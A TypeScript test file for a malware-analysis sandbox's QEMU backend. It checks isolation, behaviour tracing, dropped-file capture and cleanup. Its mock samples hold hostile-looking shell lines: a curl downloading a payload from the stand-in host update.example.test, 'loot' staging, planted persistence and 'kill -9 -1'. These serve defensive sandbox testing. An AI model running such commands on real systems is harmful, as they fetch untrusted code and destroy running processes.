import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, readSync, readdirSync, rmSync, statSync, writeFileSync, closeSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { pino } from 'pino';
import type { BehaviorEvent } from '../../src/report/events.js';
import { configSchema } from '../../src/config/schema.js';
import { analysisRequest } from '../helpers/analysis-request.js';
import { readEvents } from '../fixtures/tracer-harness.js';
import { createQemuMachinery, type QemuSession } from '../../src/machinery/qemu/index.js';
import type { QemuSettings } from '../../src/machinery/qemu/settings.js';
import type { AnalysisRequest, Machinery, RunResult } from '../../src/machinery/types.js';
import { AnalysisPaths } from '../../src/storage/layout.js';

import { COLLECT_GRACE_S } from '../helpers/qemu-timing.js';

/**
 * The qemu machinery end to end through the Machinery interface, under TCG on this host: a real QEMU
 * restored from the ready state of nestbox's guest image (built once per machine into
 * /var/lib/nestbox/images and reused; the first build takes minutes), the real agent and analyzer in the
 * guest, a real task network with the fake internet. Nothing leaves loopback and our own namespaces.
 */
const log = pino({ level: process.env.NESTBOX_TEST_LOG ?? 'silent' });
const RUN_DIR = '/run/nestbox/qemu-test';
const settings: Partial<QemuSettings> = { memory_mb: 256, run_dir: RUN_DIR, collect_grace: COLLECT_GRACE_S, screenshot_interval: 0.5 };
const workDir = mkdtempSync(join(tmpdir(), 'nestbox-qemu-test-'));
let machinery: Machinery;
let nextTask = 9000;

interface Outcome {
  result: RunResult;
  paths: AnalysisPaths;
  session: QemuSession;
  analysisLog: string;
  events: BehaviorEvent[];
}

async function analyse(sample: string | { name: string; content: Buffer }, request: Partial<AnalysisRequest> = {}, during?: (session: QemuSession) => Promise<void>): Promise<Outcome> {
  const taskId = nextTask++;
  const paths = new AnalysisPaths(join(workDir, `task-${taskId}`));
  paths.create();
  mkdirSync(join(workDir, `sample-${taskId}`));
  const { name, content } = typeof sample === 'string' ? { name: 'sample.sh', content: Buffer.from(sample) } : sample;
  const samplePath = join(workDir, `sample-${taskId}`, name);
  writeFileSync(samplePath, content);
  const session = (await machinery.start(analysisRequest('q1', { taskId, paths, samplePath, log, ...request }))) as QemuSession;
  try {
    const running = session.run(new AbortController().signal);
    if (during) await during(session);
    const result = await running;
    await session.stop();
    await session.collect();
    const events = await readEvents(join(paths.logs, 'events.jsonl'));
    return { result, paths, session, analysisLog: readFileSync(paths.analysisLog, 'utf8'), events };
  } finally {
    await session.destroy();
  }
}

function qemuProcessesOf(id: string): number[] {
  return readdirSync('/proc')
    .filter((entry) => /^\d+$/.test(entry))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/comm`, 'utf8').trim() === `nbq-${id}`;
      } catch {
        return false;
      }
    })
    .map(Number);
}

function linkExists(name: string): boolean {
  try {
    execFileSync('ip', ['link', 'show', 'dev', name], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function assertReleased(session: QemuSession): void {
  assert.deepEqual(qemuProcessesOf(session.id), [], 'no QEMU process is left');
  assert.equal(linkExists(`nbq-${session.id}`), false, 'no tap is left');
  assert.equal(existsSync(join(RUN_DIR, session.id)), false, 'no run folder (overlay, sockets) is left');
}

describe('qemu machinery (TCG)', { timeout: 40 * 60_000 }, () => {
  before(async () => {
    const config = configSchema.parse({ machines: [{ name: 'q1', kind: 'qemu', settings }] });
    machinery = createQemuMachinery(config, log);
    await machinery.prepare();
  });

  after(async () => {
    // The machinery keeps the next task's network ready: close() removes it.
    await machinery?.close?.();
    rmSync(workDir, { recursive: true, force: true });
  });

  it('runs a script through the agent: behaviour, dropped files, fake internet, screenshots, memory dumps', async (t) => {
    // A listener on the host's loopback: QEMU's user-mode network would lead the guest's 10.0.2.2 here if
    // it were not restricted.
    let hostConnections = 0;
    const hostListener = createServer((socket) => {
      hostConnections++;
      socket.destroy();
    }).listen(0, '127.0.0.1');
    await once(hostListener, 'listening');
    // Closed however the test ends: a listener left open keeps this file's process alive, and the run waits on it.
    t.after(() => hostListener.close());
    const hostPort = (hostListener.address() as AddressInfo).port;
    const outcome = await analyse(
      [
        '#!/bin/sh',
        'echo "sample says hello"',
        `curl -s -m 3 http://10.0.2.2:${hostPort}/ && echo "HOST REACHED" || echo "host unreachable"`,
        'mkdir -p /tmp/drop',
        'echo "stolen data" > /tmp/drop/loot.txt',
        'mv /tmp/drop/loot.txt /tmp/drop/loot.bin',
        'curl -s -m 10 -o /tmp/drop/payload http://update.example.test/payload.bin && echo "fetched payload"',
        "# Short sleeps in a loop: one long sleep would be cut short by the supervisor and end.",
        'while :; do sleep 1; done &',
        'echo "left a process behind"',
      ].join('\n'),
      { memory: true, timeoutSeconds: 12 },
    );
    const { result, paths, events, analysisLog, session } = outcome;
    assert.equal(result.ended, 'timeout', 'the left-behind process keeps the analysis running to its timeout');
    assert.equal(result.route, 'inetsim');
    assert.match(analysisLog, /sample says hello/);
    assert.match(analysisLog, /fetched payload/);
    assert.match(analysisLog, /host unreachable/);
    assert.equal(hostConnections, 0, 'the agent network leads the guest nowhere');

    // The shell package gives the script to bash, on this kind as on a linux machine.
    const exec = events.find((event) => event.kind === 'process.exec' && event.argv.join(' ') === '/bin/bash /tmp/sample.sh');
    assert.ok(exec, 'the sample itself is traced');
    assert.ok(events.some((event) => event.kind === 'file.rename' && event.from === '/tmp/drop/loot.txt' && event.to === '/tmp/drop/loot.bin'));
    const connect = events.find((event) => event.kind === 'net.connect' && event.port === 80 && event.ret >= -115);
    assert.ok(connect, 'curl connects to port 80 of the fake internet');
    assert.match((connect as { address: string }).address, /^198\.1[89]\./, 'at the address the fake resolver gave');

    const dropped = JSON.parse(`[${readFileSync(paths.filesJson, 'utf8').trim().split('\n').join(',')}]`) as { path: string; filepath: string | null; pids: number[] }[];
    const loot = dropped.find((entry) => entry.filepath === '/tmp/drop/loot.bin');
    assert.ok(loot, 'the dropped file is uploaded');
    assert.equal(readFileSync(join(paths.dir, loot.path), 'utf8'), 'stolen data\n');
    assert.ok(dropped.some((entry) => entry.filepath === '/tmp/drop/payload'), 'the downloaded payload is uploaded');
    assert.ok(!dropped.some((entry) => entry.filepath === '/tmp/sample.sh'), 'the sample itself is not a dropped file');

    const processDumps = dropped.filter((entry) => entry.path.startsWith('memory/'));
    assert.ok(processDumps.length >= 1, 'the left-behind process is dumped');
    const header = readFileSync(join(paths.dir, processDumps[0]!.path)).subarray(0, 24);
    assert.ok(header.readBigUInt64LE(0) > 0n && header.readUInt32LE(8) > 0, 'dumps start with a Cuckoo region header');

    const fullDump = openSync(paths.memoryDump, 'r');
    const magic = Buffer.alloc(4);
    readSync(fullDump, magic, 0, 4, 0);
    closeSync(fullDump);
    assert.equal(magic.toString('latin1'), '\x7fELF', 'memory.dmp is an ELF core of the guest');
    assert.ok(statSync(paths.memoryDump).size >= 256 * 1024 ** 2, 'of all its memory');

    const shots = readdirSync(paths.shots).filter((name) => /^\d{4}\.jpg$/.test(name));
    assert.ok(shots.length >= 1, 'screenshots are taken');
    assert.deepEqual(readFileSync(join(paths.shots, shots[0]!)).subarray(0, 2), Buffer.from([0xff, 0xd8]));

    const pcap = readFileSync(paths.pcap);
    assert.ok(pcap.length > 24 && pcap.includes(Buffer.from('update.example.test')), 'the capture holds the guest DNS query');
    assertReleased(session);
  });

  it('starts every task from a clean machine: nothing of the previous task is left', async () => {
    const first = await analyse(
      ['#!/bin/sh', 'echo planted > /root/planted-marker', 'echo "#!/bin/sh" > /usr/local/bin/persist', 'nohup sleep 1000 >/dev/null 2>&1 &', 'echo planted'].join('\n'),
      { timeoutSeconds: 4 },
    );
    assert.match(first.analysisLog, /planted/);
    const started = performance.now();
    const second = await analyse(
      [
        '#!/bin/sh',
        'test -e /root/planted-marker && echo "MARKER FOUND" || echo "no marker"',
        'test -e /usr/local/bin/persist && echo "PERSIST FOUND" || echo "no persistence"',
        'ps -eo comm | grep -qx sleep && echo "SLEEP FOUND" || echo "no sleeper"',
      ].join('\n'),
      // The task's clock is years away from now: the guest takes it, whatever time the state was saved at.
      { timeoutSeconds: 15, clock: '2031-05-05T12:00:00Z' },
    );
    assert.match(second.analysisLog, /no marker/);
    assert.match(second.analysisLog, /no persistence/);
    assert.match(second.analysisLog, /no sleeper/);
    assert.equal(second.result.ended, 'exited');
    const taskTime = Date.parse('2031-05-05T12:00:00Z') / 1000;
    assert.ok(second.events.length > 0 && second.events.every((event) => Math.abs(event.ts - taskTime) < 300), 'events carry the task clock');
    const timings = second.session.timings!;
    assert.ok(timings.restoreMs < 5000, `restored in ${Math.round(timings.restoreMs)} ms`);
    assert.ok(performance.now() - started < 60_000);
    assertReleased(first.session);
  });

  it('opens a URL task in the guest, through the fake internet', async () => {
    const outcome = await analyse('', { category: 'url', url: 'http://phish.example.test/login.php', samplePath: undefined, timeoutSeconds: 15 });
    assert.equal(outcome.result.ended, 'exited');
    const fetch = outcome.events.find((event) => event.kind === 'process.exec' && event.argv.includes('http://phish.example.test/login.php'));
    assert.ok(fetch, 'the URL is fetched in the guest');
    assert.ok(readFileSync(outcome.paths.pcap).includes(Buffer.from('phish.example.test')), 'and the request is captured');
    assertReleased(outcome.session);
  });

  it('unpacks a password-protected zip sample with the configured passwords and runs what is inside', async () => {
    const folder = join(workDir, 'zip-source');
    mkdirSync(folder);
    writeFileSync(join(folder, 'readme.txt'), 'decoy');
    writeFileSync(join(folder, 'payload.sh'), '#!/bin/sh\necho "unzipped payload ran"\n');
    execFileSync('7z', ['a', '-tzip', '-pinfected', '-mem=ZipCrypto', join(folder, 'bundle.zip'), 'payload.sh', 'readme.txt'], { cwd: folder, stdio: 'ignore' });
    const outcome = await analyse({ name: 'bundle.zip', content: readFileSync(join(folder, 'bundle.zip')) }, { timeoutSeconds: 15 });
    assert.equal(outcome.result.ended, 'exited');
    assert.match(outcome.analysisLog, /unzipped payload ran/);
    assert.ok(outcome.events.some((event) => event.kind === 'process.exec' && event.argv.join(' ') === '/bin/bash /tmp/unpacked/payload.sh'));
  });

  it('stops a guest whose analyzer never reports, at the timeout; stop, collect and destroy can be repeated', async () => {
    // Killing every process but init takes the analyzer (and strace) with it; the agent comes back empty.
    const outcome = await analyse('#!/bin/sh\necho "going dark"\nkill -9 -1\n', { timeoutSeconds: 3 });
    assert.equal(outcome.result.ended, 'timeout');
    assert.match(outcome.result.warnings.join('\n'), /did not finish the analysis in time/);
    assertReleased(outcome.session);
    await outcome.session.stop();
    await outcome.session.collect();
    await outcome.session.destroy();
    assertReleased(outcome.session);
  });

  it("cleanupStale takes only its own run folder's machines: another nestbox's running QEMU is left alone", async (t) => {
    // Stand-ins for QEMU processes as cleanup finds them: named nbq-<id> (a script's name is its comm),
    // started with -name nestbox,process=nbq-<id> and a QMP socket in their run folder.
    const scripts = mkdtempSync(join(tmpdir(), 'nestbox-stale-'));
    const decoy = (id: string, runDir: string) => {
      const script = join(scripts, `nbq-${id}`);
      // Short sleeps in a loop: the shell keeps its name and arguments, and a killed one leaves no long sleep behind.
      writeFileSync(script, '#!/bin/sh\nwhile :; do sleep 1; done\n', { mode: 0o755 });
      const child = spawn(script, ['-name', `nestbox,process=nbq-${id}`, '-qmp', `unix:${join(runDir, id)}/qmp.sock,server=on,wait=off`], { stdio: 'ignore' });
      t.after(() => child.kill('SIGKILL'));
      return child;
    };
    const theirs = decoy('ab_c0ffee', '/run/nestbox/another-nestbox');
    const ours = decoy('ab_deadbe', RUN_DIR);
    for (let i = 0; i < 50 && (qemuProcessesOf('ab_c0ffee').length === 0 || qemuProcessesOf('ab_deadbe').length === 0); i++) await sleep(100);
    await machinery.cleanupStale();
    for (let i = 0; i < 50 && ours.exitCode === null && ours.signalCode === null; i++) await sleep(100);
    assert.equal(ours.signalCode, 'SIGKILL', 'a QEMU of this run folder with no live owner is killed');
    assert.equal(theirs.exitCode === null && theirs.signalCode === null, true, "another run folder's QEMU still runs");
    rmSync(scripts, { recursive: true, force: true });
  });

  it('leaves nothing behind when nestbox dies mid-task, and cleanupStale removes the remains', async () => {
    const child = spawn(process.execPath, [fileURLToPath(new URL('../qemu-crash-child.js', import.meta.url))], {
      stdio: ['ignore', 'pipe', 'inherit'],
      env: { ...process.env, NESTBOX_QEMU_TEST_SETTINGS: JSON.stringify(settings) },
    });
    let output = '';
    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    for (let i = 0; i < 600 && !output.includes('\n'); i++) await sleep(100);
    const id = output.trim();
    assert.ok(id, 'the child started a machine');
    const running = qemuProcessesOf(id);
    assert.equal(running.length, 1, 'its QEMU runs');
    // Filter mode: QEMU's own seccomp sandbox (no spawning, no privilege changes) is on.
    assert.match(readFileSync(`/proc/${running[0]}/status`, 'utf8'), /^Seccomp:\s+2$/m);
    child.kill('SIGKILL');
    await once(child, 'exit');
    for (let i = 0; i < 50 && qemuProcessesOf(id).length > 0; i++) await sleep(100);
    assert.deepEqual(qemuProcessesOf(id), [], 'QEMU died with its owner');
    assert.ok(existsSync(join(RUN_DIR, id)), 'the run folder is left behind');
    await machinery.cleanupStale();
    assert.equal(existsSync(join(RUN_DIR, id)), false, 'cleanupStale removed the run folder');
    assert.equal(linkExists(`nbq-${id}`), false);
    const namespaces = execFileSync('ip', ['netns', 'list'], { encoding: 'utf8' });
    assert.ok(!namespaces.includes(id), 'and the task network');
  });
});
